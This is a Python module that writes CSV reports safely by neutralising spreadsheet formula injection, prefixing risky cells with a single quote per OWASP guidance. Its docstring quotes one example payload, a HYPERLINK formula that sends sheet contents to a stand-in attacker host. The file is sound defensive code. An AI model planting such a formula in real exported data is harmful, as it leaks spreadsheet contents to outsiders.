"""CSV files staff open in a spreadsheet (X2's reconciliation report): the one CSV writer.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula, and treats a
leading tab or carriage return (or line feed) the same way; a client named
`=HYPERLINK("https://evil.example/?"&A1)` would become a live link that leaks the sheet. OWASP's
CSV injection guidance: prefix such a cell with a single quote, which spreadsheets read as
"this is text" and do not show. Plain numbers (`-12.50`) are not formulas and stay numbers.
Quoting of commas, quotes and line breaks inside cells is the `csv` module's (RFC 4180).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
_PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")


def safe_cell(value: object) -> str:
    """The cell's text, neutralised when a spreadsheet would read it as a formula."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(text):
        return f"'{text}"
    return text


def write_csv(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """The whole file: CRLF line ends (RFC 4180), every cell through `safe_cell`."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([safe_cell(name) for name in header])
    for row in rows:
        writer.writerow([safe_cell(cell) for cell in row])
    return out.getvalue()
